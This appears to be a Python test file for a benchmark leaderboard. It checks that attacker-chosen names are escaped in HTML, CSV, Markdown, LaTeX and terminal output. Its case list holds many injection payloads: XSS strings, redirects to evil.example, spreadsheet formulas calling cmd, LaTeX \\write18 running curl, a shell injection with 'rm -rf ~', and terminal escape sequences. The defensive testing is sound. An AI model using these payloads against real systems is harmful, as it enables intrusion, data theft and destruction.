"""Names and notes that would be markup, formulas or commands where they are shown: pages, tables, papers, terminals."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from collections.abc import Callable
from html.parser import HTMLParser

from ssl_bench.leaderboard import latex, site, text
from ssl_bench.leaderboard.ranking import Board, make_board
from ssl_bench.model_zoo import About, ModelCard, Published
from ssl_bench.results import exporting
from ssl_bench.results.describe import command, describe
from ssl_bench.results.store import Results
from ssl_bench.submission import reports
from ssl_bench.submission.findings import Finding
from ssl_bench.submission.validator import Report
from ssl_bench.submission.verifying import Redone
from tests.results.factory import make_model, make_record, make_task
from tests.results.test_verifications import verification
from tests.submission.hostile.base import Arena, Case
from tests.submission.hostile.claims import lines

STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")


class Elements(HTMLParser):
    """The elements of a page with the names of their attributes, and where it leads."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.links: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(sorted(name for name, _ in attrs))))
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]


def board(word: str) -> Board:
    """A board on which a stranger chose every word that a stranger may choose."""
    model = dataclasses.replace(make_model(word), title=word, source=word, library=word)
    about = dict(model.about) | {"paper": word, "licence": word, "data": word, "note": word}
    told = make_record(dataclasses.replace(model, about=about), make_task("cifar10"))
    other = make_record("pixels", make_task("cifar10"), value=0.3)
    cards = {word: ModelCard(word, "timm", about=About(paper=word), published={"cifar10/knn": Published(0.5, word)})}
    return make_board([told, other], cards=cards, skipped=[(word, word)])


def page(word: str) -> Callable[[Arena], object]:
    """Show a word on the board's page beside a harmless one: it adds no element, attribute or address."""

    def does(_: Arena) -> object:
        hostile, harmless = (Elements(site.html(board(one))) for one in (word, "harmless"))
        added = set(hostile.found) - set(harmless.found) - {("a", ("href", "rel"))}  # an address of the web is linked
        assert not added, added
        assert all(re.match(r"(https?://|#|data:image/|\.?/|$)", link) for link in hostile.links)
        return "the page has no element more"

    return does


def linked(word: str) -> Callable[[Arena], object]:
    """Give an address that is none to every place that a page links from."""

    def does(arena: Arena) -> object:
        page(word)(arena)
        assert word not in Elements(site.html(board(word))).links
        return "the page does not lead there"

    return does


def sheet(word: str) -> Callable[[Arena], object]:
    """Write a word into a table for spreadsheets: no cell begins as a formula does."""

    def does(arena: Arena) -> object:
        results = Results(arena.folder / "store")
        results.put(make_record(make_model(word)))
        results.index.refresh()
        tables = [exporting.csv_text(*exporting.flat(results.index)), text.csv_text(board(word))]
        cells = [cell for table in tables for row in csv.reader(io.StringIO(table)) for cell in row]
        assert not [
            cell for cell in cells if cell[:1] in ("=", "@", "\t", "\r") or re.match(r"[+-](?![\d.einf])", cell)
        ]
        assert any(word in cell for cell in cells)
        return "no cell is a formula"

    return does


def markdown(word: str) -> Callable[[Arena], object]:
    """Write a word into tables and reports in Markdown: no line, cell, link, element or mention more."""

    def does(_: Arena) -> object:
        hostile, harmless = (text.markdown(board(one)) for one in (word, "harmless"))
        assert hostile.count("\n") == harmless.count("\n")
        for one, other in zip(hostile.splitlines(), harmless.splitlines(), strict=True):
            bars = [len(re.findall(r"(?<!\\)\|", line)) for line in (one, other)]
            assert bars[0] == bars[1], one
        finding = Finding("outlier", word, word, word)
        report = reports.markdown(Report("0" * 64, word, "vtab@1", (finding,)))
        for said in (hostile, report):
            assert not re.search(
                r"<(?!!--)[a-zA-Z/]", said.replace("<br", "").replace("<sub", "").replace("</sub", "")
            ), said
        assert not re.search(r"(?<!\\)\]\(javascript", hostile + report)
        assert not re.search(r"@[a-zA-Z]", report)
        return "no markup more"

    return does


def paper(word: str) -> Callable[[Arena], object]:
    """Write a word into a table for LaTeX: every letter that LaTeX obeys is escaped."""

    def does(_: Arena) -> object:
        written = latex.latex(board(word))
        body = "\n".join(line for line in written.splitlines() if not line.startswith("%"))
        assert not re.search(r"(?<!\\)\\(input|write|immediate|def|catcode|include|openout|csname|read)\b", body), body
        bare = re.sub(r"\\[{}]", "", body)
        assert bare.count("{") == bare.count("}")
        return "no command more"

    return does


def terminal(word: str) -> Callable[[Arena], object]:
    """Print a word to a terminal: nothing that it would obey."""

    def does(arena: Arena) -> object:
        told = make_record(make_model(word))
        results = Results(arena.folder / "store")
        results.put(told)
        said = describe(told) + command(told) + lines([Redone("a", "b", "agrees", "c")])
        assert not STEERING.search(said.replace("\n", "")), said
        return "nothing steers"

    return does


def note(word: str) -> Callable[[Arena], object]:
    """Put a word into a verification: it is refused, or a board shows it as text."""

    def does(arena: Arena) -> object:
        one = verification(make_record(), outcome=word, level="dispute")
        results = Results(arena.folder / "store")
        results.put_verification(one)
        return f"kept as text: {len(results.verifications())}"

    return does


SCRIPT = "<script>alert(1)</script>"
CLEAN, FORMULA, MARKUP = "the page has no element more", "no cell is a formula", "no markup more"
COMMAND, STEERS, THERE = "no command more", "nothing steers", "the page does not lead there"
CASES = (
    Case("a script for a name, on the page", page(SCRIPT), CLEAN),
    Case("a script that ends the page's own", page("</script><script>alert(1)//"), CLEAN),
    Case("an image with a handler", page("<img src=x onerror=alert(1)>"), CLEAN),
    Case("an attribute that ends another", page('" onmouseover="alert(1)'), CLEAN),
    Case("an attribute without quotes", page("x onfocus=alert(1) autofocus "), CLEAN),
    Case("a quote of the other kind", page("' onclick='alert(1)"), CLEAN),
    Case("a drawing with a handler", page("<svg/onload=alert(1)>"), CLEAN),
    Case("a comment that swallows the page", page("<!--"), CLEAN),
    Case("a comment within the page's data", page("<!--<script>"), CLEAN),
    Case("a style for all", page("</style><style>*{display:none}"), CLEAN),
    Case("a frame", page("<iframe srcdoc='<script>alert(1)</script>'>"), CLEAN),
    Case("a base for all links", page("<base href=https://evil.example>"), CLEAN),
    Case("a form", page("<form action=https://evil.example><input>"), CLEAN),
    Case("a redirection", page("<meta http-equiv=refresh content='0;url=https://evil.example'>"), CLEAN),
    Case("entities of HTML", page("&lt;script&gt;alert(1)&lt;/script&gt;"), CLEAN),
    Case("a template of the page's own language", page("{{ 7*7 }}{% include '/etc/passwd' %}"), CLEAN),
    Case("a line separator in the page's data", page("\u2028alert(1)\u2029"), CLEAN),
    Case("half a character on the page", page("a\x00b"), CLEAN),
    Case("an address that executes", linked("javascript:alert(1)"), THERE),
    Case("an address that executes, in capitals", linked("JaVaScRiPt:alert(1)"), THERE),
    Case("an address that executes, behind a blank", linked(" javascript:alert(1)"), THERE),
    Case("an address that is a page", linked("data:text/html,<script>alert(1)</script>"), THERE),
    Case("an address on this machine", linked("file:///etc/passwd"), THERE),
    Case("an address that ends its attribute", page('https://evil.example/"onmouseover="alert(1)'), CLEAN),
    Case("a formula", sheet('=HYPERLINK("https://evil.example",1)'), FORMULA),
    Case("a formula that calls a program", sheet("=cmd|'/C calc'!A0"), FORMULA),
    Case("a formula with a plus", sheet("+1+cmd|'/C calc'!A0"), FORMULA),
    Case("a formula with a minus", sheet("-1+cmd|'/C calc'!A0"), FORMULA),
    Case("a formula with an at", sheet("@SUM(1+1)*cmd|'/C calc'!A0"), FORMULA),
    Case("a formula behind a tab", sheet("\t=1+1"), FORMULA),
    Case("a formula behind a quote", sheet('"=1+1'), FORMULA),
    Case("a script in Markdown", markdown(SCRIPT), MARKUP),
    Case("a cell more in Markdown", markdown("a | b | c"), MARKUP),
    Case("a link in Markdown", markdown("[mean](javascript:alert(1))"), MARKUP),
    Case("an image in Markdown", markdown("![x](https://evil.example/pixel.png)"), MARKUP),
    Case("a mention of a team", markdown("@everyone"), MARKUP),
    Case("code that ends itself", markdown("``` `a` <b>"), MARKUP),
    Case("a file in LaTeX", paper("\\input{/etc/passwd}"), COMMAND),
    Case("a program in LaTeX", paper("\\immediate\\write18{curl evil.example}"), COMMAND),
    Case("letters of another meaning in LaTeX", paper("\\catcode`\\%=12 }{ $^$ # & _ ~"), COMMAND),
    Case("the end of a table in LaTeX", paper("\\\\ \\end{tabular} \\def\\x{"), COMMAND),
    Case("a colour on a terminal", terminal("\x1b[31mred\x1b[0m"), STEERS),
    Case("a title of the terminal's window", terminal("\x1b]0;pwned\x07"), STEERS),
    Case("a clipboard that is written", terminal("\x1b]52;c;cm0gLXJmIH4=\x07"), STEERS),
    Case("a line that is overwritten", terminal("good\rbad"), STEERS),
    Case("a command in a name", terminal("$(touch sentinel); `id` && rm -rf ~"), STEERS),
    Case("a direction of text on a terminal", terminal("\u202etxt.exe"), STEERS),
    Case("letters of no width on a terminal", terminal("dino\u200bv2\u2060\ufeff"), STEERS),
    Case("a control sequence of one byte", terminal("\x9b31mred"), STEERS),
    Case("a script in a dispute", note(SCRIPT), "kept as text: 1"),
    Case("a direction of text in a dispute", note("\u202eevil"), "must be printable"),
    Case("an escape in a dispute", note("\x1b[2J"), "must be printable"),
    Case("a dispute of 100,000 letters", note("x" * 100_000), "of up to 2000 characters"),
)
